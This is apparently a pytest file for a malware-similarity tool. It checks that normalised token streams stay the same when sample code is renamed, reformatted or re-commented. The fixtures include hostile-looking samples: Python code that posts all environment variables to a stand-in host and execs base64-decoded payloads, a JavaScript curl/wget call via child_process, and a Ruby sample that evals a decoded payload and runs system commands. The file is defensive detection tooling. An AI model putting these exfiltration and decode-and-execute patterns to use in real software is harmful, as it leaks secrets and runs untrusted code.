"""Normalised token streams: what must not change them, and what must."""

from __future__ import annotations

import hashlib

import pytest

from malgraph.analysis.tokens import normalised_tokens
from malgraph.core.code import token_digest

PYTHON = '''\
import base64, os
import requests

def deliver(payload):
    """Post the environment."""
    data = dict(os.environ)  # everything
    requests.post("https://collect.example.invalid/x", data=data, timeout=5)
    exec(base64.b64decode(payload))
'''
# Renamed identifiers, other strings and numbers, another layout, other comments, a trailing
# comma and semicolons: the same program to a similarity measure.
PYTHON_DISGUISED = """\
import base64 , os
import requests
def   zz_q( p ,):
    '''nothing to see'''
    # a comment that was not there
    d=dict( os.environ );
    requests.post( 'https://other.example.invalid/y' ,
                   data = d , timeout = 30 , )
    exec( base64.b64decode( p ) )  # run it
"""

JAVASCRIPT = """\
const { exec } = require("child_process");
// install hook
function go(cmd) {
  const url = `https://example.invalid/${cmd}`;
  exec("curl " + url, (err) => { if (err) console.log(err) });
  return /^[a-z]+$/.test(cmd);
}
"""
JAVASCRIPT_DISGUISED = """\
const {exec} = require('child_process')
/* nothing here */
function a1(b2) {
  const c3 = `https://other.invalid/x`
  exec('wget ' + c3, (e) => { if (e) console.log(e) })
  return /"quoted"/.test(b2)
}
"""

RUBY = """\
require 'base64'
# decode and run
def install(payload)
  code = Base64.decode64(payload)
  eval code
  system("id") if ENV["CI"].nil?
end
"""
RUBY_DISGUISED = """\
require "base64"
=begin
block comment
=end
def q(x) ; y = Base64.decode64(x)
  eval y
  system(%q{whoami}) if ENV['HOME'].nil?
end
"""


def stream(spaced: str) -> list[str]:
    return spaced.split(" ")


@pytest.mark.parametrize(
    ("original", "disguised", "language"),
    [
        (PYTHON, PYTHON_DISGUISED, "python"),
        (JAVASCRIPT, JAVASCRIPT_DISGUISED, "javascript"),
        (RUBY, RUBY_DISGUISED, "ruby"),
    ],
)
def test_renaming_strings_layout_and_comments_leave_the_stream_unchanged(
    original: str, disguised: str, language: str
) -> None:
    tokens = normalised_tokens(original, language)
    assert normalised_tokens(disguised, language) == tokens
    assert token_digest(normalised_tokens(disguised, language)) == token_digest(tokens)


def test_what_the_stream_keeps_and_normalises() -> None:
    assert normalised_tokens(PYTHON, "python") == stream(
        "import base64 , os import requests "
        "def I ( I ) : S "
        "I = dict ( os . environ ) "
        "requests . post ( S , I = I , I = N ) "
        "exec ( base64 . b64decode ( I ) )"
    )
    js = normalised_tokens(JAVASCRIPT, "javascript")
    assert js[:9] == ["const", "{", "exec", "}", "=", "require", "(", "S", ")"]
    assert "S" in js and "=>" in js and "I" in js


def test_different_code_gives_a_different_stream() -> None:
    changed = PYTHON.replace("exec(base64.b64decode(payload))", "print(len(payload))")
    assert token_digest(normalised_tokens(changed, "python")) != token_digest(
        normalised_tokens(PYTHON, "python")
    )
    # An API name cannot be renamed away, so swapping it shows.
    swapped = JAVASCRIPT.replace("exec(", "execSync(")
    assert normalised_tokens(swapped, "javascript") != normalised_tokens(JAVASCRIPT, "javascript")


def test_python_string_forms_are_one_token_each() -> None:
    text = 'a = rb"x" + f\'{y}\' + """multi\nline \\""" quote""" + u\'\'\'z\'\'\' + b"\\""'
    assert normalised_tokens(text, "python") == stream("I = S + S + S + S + S")
    # Python 2 `print"x"` is an identifier followed by a string.
    assert normalised_tokens('print"x"', "python") == ["print", "S"]


def test_javascript_regex_literals_and_division() -> None:
    assert normalised_tokens("x = a / b / c;", "javascript") == stream("I = I / I / I")
    assert normalised_tokens('r = /a"b/g; s = (/x/);', "javascript") == stream("I = S I = ( S )")


def test_ruby_heredocs_percent_literals_and_globals() -> None:
    text = 'x = <<~EOS\n  secret "quoted"\nEOS\ny = %w[a b] + %Q(c) + $stdin.read\n'
    assert normalised_tokens(text, "ruby") == stream("I = S I = S + S + I . read")


def test_a_quote_whose_string_cannot_end_is_an_operator() -> None:
    # A backslash as the last character leaves the string unended: the quote, and Python's
    # prefix letters before it, are then operators, though a string ending the text is a string.
    assert normalised_tokens("a = 'b\\", "python") == ["I", "=", "'", "I", "\\"]
    assert normalised_tokens("a = rb'b\\", "python") == ["I", "=", "r", "b", "'", "I", "\\"]
    assert normalised_tokens("a = 'b", "python") == ["I", "=", "S"]
    assert normalised_tokens("a = `b\\", "javascript") == ["I", "=", "`", "I", "\\"]
    assert normalised_tokens("a = `", "javascript") == ["I", "=", "S"]


def test_kinds_told_from_the_token_text() -> None:
    # `$` and a backtick are names and strings in JavaScript only; `//=` is Python's operator.
    assert normalised_tokens("$x = `t` // 2", "javascript") == ["I", "=", "S"]
    assert normalised_tokens("x //= 2; y = .5 + a.b + ٣", "python") == stream(
        "I //= N I = N + I . I + N"
    )
    assert normalised_tokens("f(...a, .5, $, `x`)", "javascript") == stream(
        "I ( ... I , N , I , S )"
    )
    assert normalised_tokens("x = $y `z`", "python") == ["I", "=", "$", "I", "`", "I", "`"]


def test_any_text_lexes_without_raising() -> None:
    nasty = "\"unterminated '''\n/* open comment\n\x00\x01 \u2028 €€ `tick ${ \\"
    for language in ("python", "javascript", "ruby", "cobol"):
        assert isinstance(normalised_tokens(nasty, language), list)
        assert normalised_tokens("", language) == []
        assert normalised_tokens("   \n\t ", language) == []


def test_token_digest_is_sha256_of_the_nul_joined_stream() -> None:
    tokens = ["import", "os", "I"]
    assert token_digest(tokens) == hashlib.sha256(b"import\x00os\x00I").hexdigest()
    assert token_digest(["ab"]) != token_digest(["a", "b"])
